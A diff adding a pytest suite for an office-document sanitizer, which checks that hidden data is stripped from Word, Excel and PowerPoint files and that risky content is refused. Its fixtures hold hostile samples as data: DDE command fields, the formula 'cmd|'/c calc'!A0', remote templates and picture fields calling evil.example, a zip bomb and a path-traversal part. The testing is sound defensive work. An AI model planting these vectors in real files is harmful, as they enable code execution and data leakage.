@@ -1,0 +1,293 @@
+"""What office files have in them that nobody means to publish: taken out, or refused.
+
+Each row of a table is a file with a canary where the row says. Whatever is taken out is in none of
+the bytes that are published, however they are packed.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import struct
+from collections.abc import Callable
+from typing import Final
+
+import pytest
+from PIL import Image
+
+from hub.documents.attachments import archives, office_texts
+from tests.helpers.attached import A, P, R, W, X, docx, package, photo, relation, screenshot
+from tests.helpers.planted import (
+    CANARY,
+    OUTSIDE,
+    PATHS,
+    WORDS,
+    cleaned,
+    excel,
+    refused,
+    slides,
+    tells,
+    word,
+)
+
+ACTIVE: Final = "word/document.xml"
+EMPTY: Final = '<a xmlns="u"/>'
+
+
+def settings(within: str, *leads: str) -> bytes:
+    """A Word file with this among its settings."""
+    path = "word/settings.xml"
+    parts = {path: f"<w:settings {W} {R}>{within}</w:settings>"}
+    return package(
+        "word/document.xml",
+        {"word/document.xml": f"<w:document {W}><w:t>{WORDS}</w:t></w:document>", **parts},
+        {"word/document.xml": [relation("rId1", "settings", "settings.xml")], path: leads},
+    )
+
+
+def field(*pieces: str) -> str:
+    """A field whose instruction is written in pieces, and that shows the words."""
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return f"{mark('begin')}{said}{mark('separate')}<w:r><w:t>{WORDS}</w:t></w:r>{mark('end')}"
+
+
+def link(target: str, more: str = OUTSIDE) -> bytes:
+    """A Word file with a link."""
+    shown = f'<w:hyperlink r:id="rId9"><w:r><w:t>{WORDS}</w:t></w:r></w:hyperlink>'
+    return word(shown, None, relation("rId9", "hyperlink", target, more))
+
+
+def shown_picture(data: bytes, name: str = "image9.bin", blip: str = "") -> bytes:
+    """A Word file with a picture of any kind."""
+    body = f'<w:drawing><a:blip r:embed="rId9">{blip}</a:blip></w:drawing>'
+    return word(body, {f"word/media/{name}": data}, relation("rId9", "image", f"media/{name}"))
+
+
+def tiff() -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (4, 4)).save(out, "TIFF", description=CANARY, software=CANARY)
+    return out.getvalue()
+
+
+def emf() -> bytes:
+    """A drawing with a title, a remark, and a photograph within."""
+    title = f"Word\0{CANARY}\0\0".encode("utf-16-le")
+    title += bytes(-len(title) % 4)
+    head = struct.pack("<II", 1, 108 + len(title)) + bytes(32) + b" EMF" + bytes(16)
+    head += struct.pack("<II", len(title) // 2, 108) + bytes(40) + title
+
+    def remark(data: bytes) -> bytes:
+        data += bytes(-len(data) % 4)
+        return struct.pack("<III", 70, 12 + len(data), len(data)) + data
+
+    remarks = remark(CANARY.encode()) + remark(
+        b"EMF+" + photo(CANARY).replace(CANARY.encode(), b"", 0)
+    )
+    return head + remarks + struct.pack("<IIIII", 14, 20, 0, 0, 20)
+
+
+def wmf() -> bytes:
+    """A drawing with a remark."""
+    said = CANARY.encode() + b"\0"
+    escape = struct.pack("<IHHH", 5 + len(said) // 2, 0x0626, 15, len(said)) + said
+    return b"\x01\0\x09\0" + bytes(14) + escape + struct.pack("<IH", 3, 0)
+
+
+def svg(within: str) -> str:
+    return f'<svg xmlns="http://www.w3.org/2000/svg">{within}</svg>'
+
+
+BLIP_SVG = '<a:extLst><a:ext uri="u"><x:svgBlip r:embed="rId8"/></a:ext></a:extLst>'
+INK = '<ink xmlns="http://www.w3.org/2003/InkML"/>'
+WORD: dict[str, Callable[[], bytes]] = {
+    **{f"link to {how}": (lambda to=to: link(to)) for how, to in PATHS.items()},
+    "link without a mode": lambda: link(rf"C:\{CANARY}", ""),
+    "link in other quotes": lambda: package(
+        "word/document.xml",
+        {"word/document.xml": f"<w:document {W} {R}><w:hyperlink r:id='r'/><w:t>{WORDS}</w:t>"
+         "</w:document>"},
+        {"word/document.xml": [
+            "<Relationship Target = 'file:///" + CANARY + "'\n Id='r' TargetMode = 'External'"
+            " Type='a/hyperlink'/>"]}),
+    "attached template": lambda: settings(
+        '<w:attachedTemplate r:id="rId7"/>',
+        relation("rId7", "attachedTemplate", f"https://evil.example/{CANARY}.dotm", OUTSIDE)),
+    "mail merge": lambda: settings(
+        f'<w:mailMerge><w:query w:val="{CANARY}"/><w:dataSource r:id="rId7"/></w:mailMerge>',
+        relation("rId7", "mailMergeSource", f"file:///{CANARY}", OUTSIDE)),
+    "variables": lambda: settings(
+        f'<w:docVars><w:docVar w:name="a" w:val="{CANARY}"/></w:docVars>'),
+    "label": lambda: word("", {"docMetadata/LabelInfo.xml": f"<a>{CANARY}</a>"}),
+    "custom part": lambda: word("", {"customXml/item1.xml": f"<a>{CANARY}</a>"}),
+    "building blocks": lambda: word(
+        "", {"word/glossary/document.xml": f"<a>{CANARY}</a>"},
+        relation("rId9", "glossaryDocument", "glossary/document.xml")),
+    "unknown part": lambda: word(
+        "", {"word/new.bin": CANARY.encode()}, relation("rId9", "newThing", "new.bin")),
+    "part to which nothing leads": lambda: word("", {"word/media/a.exe": b"MZ" + CANARY.encode()}),
+    "deleted comments": lambda: word(
+        "", {"word/comments.xml": f"<w:comments {W}><!-- {CANARY} --></w:comments>"},
+        relation("rId9", "comments", "comments.xml")),
+    "remark in the XML": lambda: word(f"<!-- {CANARY} --><?x {CANARY}?>"),
+    "path in a picture's description": lambda: word(
+        rf'<x:cNvPr descr="C:\{CANARY}" name="\\a\{CANARY}"/>'),
+    "DDE": lambda: word(field("DDE", f'AUTO excel "{CANARY}"')),
+    "simple DDE": lambda: word(f'<w:fldSimple w:instr="ddeauto x {CANARY}"><w:r/></w:fldSimple>'),
+    "remote picture field": lambda: word(field(f'INCLUDEPICTURE "https://evil.example/{CANARY}"')),
+    "link as a field": lambda: word(field(rf'HYPERLINK "file:///C:\\{CANARY}" \o "x"')),
+    "author as a field": lambda: word(field(f"AUTHOR {CANARY}")),
+    "stray instruction": lambda: word(f"<w:instrText>{CANARY}</w:instrText>"),
+    "photograph": lambda: shown_picture(photo(CANARY)),
+    "screenshot": lambda: shown_picture(screenshot(CANARY)),
+    "WebP": lambda: shown_picture(photo(CANARY, form="WEBP")),
+    "photograph without an end": lambda: shown_picture(photo(CANARY)[:-2]),
+    "TIFF": lambda: shown_picture(tiff()),
+    "EMF": lambda: shown_picture(emf()),
+    "EMF, packed": lambda: shown_picture(gzip.compress(emf())),
+    "WMF": lambda: shown_picture(wmf()),
+    "drawing beside its picture": lambda: word(
+        f'<w:drawing><a:blip r:embed="rId1">{BLIP_SVG}</a:blip></w:drawing>',
+        {"word/media/image2.svg": svg(f"<script>{CANARY}</script>")},
+        relation("rId8", "image", "media/image2.svg")),
+    "picture that is elsewhere as well": lambda: word(
+        '<w:drawing><a:blip r:embed="rId1" r:link="rId8"/></w:drawing>'
+        '<v:imagedata r:id="rId1" r:href="rId8" o:href="cid:x" src="file:///x"/>', None,
+        relation("rId8", "image", f"https://evil.example/{CANARY}", OUTSIDE)),
+    "workbook behind a chart": lambda: package(
+        "word/document.xml",
+        {"word/document.xml": f"<w:document {W}><w:t>{WORDS}</w:t></w:document>",
+         "word/charts/c.xml": f'<c:chart xmlns:c="c" {R}><c:externalData r:id="r1"/></c:chart>',
+         "word/embeddings/a.xlsx": b"PK" + CANARY.encode()},
+        {"word/document.xml": [relation("rId9", "chart", "charts/c.xml")],
+         "word/charts/c.xml": [relation("r1", "package", "../embeddings/a.xlsx")]}),
+    "in two bytes a letter": lambda: docx(parts={ACTIVE: (
+        f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><!-- {CANARY} -->'
+        f"<w:t>{WORDS}</w:t></w:document>").encode("utf-16")}),
+}  # fmt: skip
+"""What is taken out of Word files."""
+
+WORD_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
+    "object": (lambda: word(
+        '<o:OLEObject r:id="rId9"/>', {"word/Embeddings/OLEobject1.bin": b"x"},
+        relation("rId9", "oleObject", "Embeddings/OLEobject1.bin")), "other files"),
+    "workbook": (lambda: word(
+        '<o:OLEObject r:id="rId9"/>', {"word/EMBEDDINGS/a.xlsx": b"PK"},
+        relation("rId9", "package", "EMBEDDINGS/a.xlsx")), "other files"),
+    "linked object": (lambda: word(
+        '<o:OLEObject r:id="rId9"/>', None, relation("rId9", "oleObject", "file:///x", OUTSIDE)),
+        "other files"),
+    "another text": (lambda: word(
+        '<w:altChunk r:id="rId9"/>', {"word/a.html": "<html>"},
+        relation("rId9", "aFChunk", "a.html")), "other files"),
+    "remote picture": (lambda: word(
+        '<a:blip r:link="rId9"/>', None,
+        relation("rId9", "image", "https://evil.example/a.png", OUTSIDE)), "lies elsewhere"),
+    "program as a picture": (lambda: shown_picture(b"MZ\x90", "a.exe"), "cannot look into"),
+    "drawing alone": (lambda: shown_picture(svg("").encode(), "a.svg"), "cannot look into"),
+    "damaged picture": (lambda: shown_picture(screenshot()[:-40]), "cannot look into"),
+    "control": (lambda: word(
+        '<w:control r:id="rId9"/>', {"word/x/a.xml": EMPTY},
+        relation("rId9", "control", "x/a.xml")), "macros"),
+    "film": (lambda: word(
+        '<a:videoFile r:link="rId9"/>', {"word/media/a.mp4": b"x"},
+        relation("rId9", "video", "media/a.mp4")), "a film"),
+    "unknown part that is shown": (lambda: word(
+        '<x:new r:id="rId9"/>', {"word/new.xml": EMPTY}, relation("rId9", "newThing", "new.xml")),
+        "does not know (`new.xml`)"),
+    "deleted words": (lambda: word("<w:delText>x</w:delText>"), "tracked changes"),
+    "macros by another name": (lambda: word(
+        "", {"word/a.bin": b"x"}, relation("rId9", "vbaProject", "a.bin")), "macros"),
+    "document type in two bytes": (lambda: docx(parts={ACTIVE:
+        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><w:document {W}/>'
+        .encode("utf-16")}), "damaged"),
+    "document type in UTF-7": (lambda: docx(parts={ACTIVE:
+        f'<?xml version="1.0" encoding="UTF-7"?><w:document {W}/>'}), "damaged"),
+    "far too deep": (lambda: docx(parts={ACTIVE: "<a>" * 2000 + "</a>" * 2000}), "damaged"),
+    "bomb": (lambda: docx(parts={"word/a.bin": bytes(archives.MAX_UNPACKED)}), "far larger"),
+    "too many parts": (lambda: docx(parts={f"word/{n}": b"" for n in range(archives.MAX_PARTS)}),
+        "5,000 at most"),
+    "way out of the file": (lambda: docx(parts={"../evil.xml": EMPTY}), "something else"),
+}  # fmt: skip
+"""What makes Word files be refused, and a part of what is said."""
+
+
+EXCEL: dict[str, Callable[[], bytes]] = {
+    "who is writing": lambda: excel(book=f'<fileSharing userName="{CANARY}"/>'),
+    "where it lay": lambda: excel(book=rf'<q:absPath url="C:\{CANARY}\"/>'),
+    "whose views": lambda: excel(
+        book=f'<customWorkbookViews><customWorkbookView name="{CANARY}"/></customWorkbookViews>'),
+    "scenarios": lambda: excel(f'<sheetData/><scenarios><scenario user="{CANARY}"/></scenarios>'),
+    "printer": lambda: excel(
+        '<sheetData/><pageSetup r:id="rId1"/>',
+        parts={"xl/printerSettings/p1.bin": CANARY.encode("utf-16-le")},
+        leads=[relation("rId1", "printerSettings", "../printerSettings/p1.bin")]),
+    "chain and people": lambda: excel(
+        parts={"xl/calcChain.xml": f"<calcChain {X}/>", "xl/persons/p.xml": f"<a>{CANARY}</a>"},
+        book_leads=[relation("r2", "calcChain", "calcChain.xml"),
+                    relation("r3", "person", "persons/p.xml")]),
+}  # fmt: skip
+
+
+def _part(kind: str, name: str, content: str = EMPTY) -> Callable[[], bytes]:
+    return lambda: excel(parts={f"xl/{name}": content}, book_leads=[relation("r2", kind, name)])
+
+
+EXCEL_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
+    "very hidden sheet": (
+        lambda: excel(book='<sheets><sheet name="B" state="veryHidden"/></sheets>'), "very hidden"),
+    "pivot table": (_part("pivotCacheDefinition", "pivotCache/a.xml"), "Paste Special, Values"),
+    "another workbook": (_part("externalLink", "externalLinks/a.xml"), "Break Link"),
+    "connection": (_part("connections", "connections.xml"), "data connection"),
+    "model": (_part("powerPivotData", "model/item.data"), "data connection"),
+    "old macros": (_part("xlMacrosheet", "macrosheets/a.xml"), "macros"),
+    "shared": (_part("revisionHeaders", "revisions/a.xml"), "tracked changes"),
+    "DDE": (lambda: excel("<sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData>"),
+            "asks another program"),
+    "from the web": (lambda: excel(book='<definedName>_xlfn.WEBSERVICE("https://e")</definedName>'),
+                     "asks another program"),
+}  # fmt: skip
+
+
+SLIDES: dict[str, Callable[[], bytes]] = {
+    "changes": lambda: slides(
+        parts={"ppt/changesInfos/changesInfo1.xml": f"<a>{CANARY}</a>"},
+        leads=[relation("r2", "changesInfo", "changesInfos/changesInfo1.xml")]),
+    "authors": lambda: slides(parts={"ppt/authors.xml": f"<a>{CANARY}</a>"},
+                              leads=[relation("r2", "authors", "authors.xml")]),
+    "tags": lambda: slides(
+        '<p:custDataLst><p:tags r:id="r2"/></p:custDataLst>',
+        {"ppt/tags/tag1.xml": f"<a>{CANARY}</a>"}, [relation("r2", "tags", "tags/tag1.xml")]),
+    "program behind a click": lambda: slides(slide=(
+        f'<p:sld {P} {A}><a:hlinkClick action="ppaction://program?{CANARY}"/>'
+        f"<a:t>{WORDS}</a:t></p:sld>")),
+}  # fmt: skip
+
+
+TAKEN_OUT = {
+    f"{name}: {what}": (f"a.{name}", make)
+    for name, table in {"docx": WORD, "xlsx": EXCEL, "pptx": SLIDES}.items()
+    for what, make in table.items()
+}
+REFUSED = {
+    f"{name}: {what}": (f"a.{name}", make, said)
+    for name, table in {"docx": WORD_REFUSED, "xlsx": EXCEL_REFUSED}.items()
+    for what, (make, said) in table.items()
+}
+
+
+@pytest.mark.parametrize("what", TAKEN_OUT)
+def test_what_nobody_means_to_publish_is_taken_out(what: str) -> None:
+    name, make = TAKEN_OUT[what]
+    given = make()
+    made = cleaned(name, given)
+    assert tells(given)
+    assert not tells(made)
+    before, after = ["\n".join(office_texts(content)).count(WORDS) for content in (given, made)]
+    assert after == before
+
+
+@pytest.mark.parametrize("what", REFUSED)
+def test_what_cannot_be_taken_out_is_refused(what: str) -> None:
+    name, make, said = REFUSED[what]
+    assert said in refused(name, make())
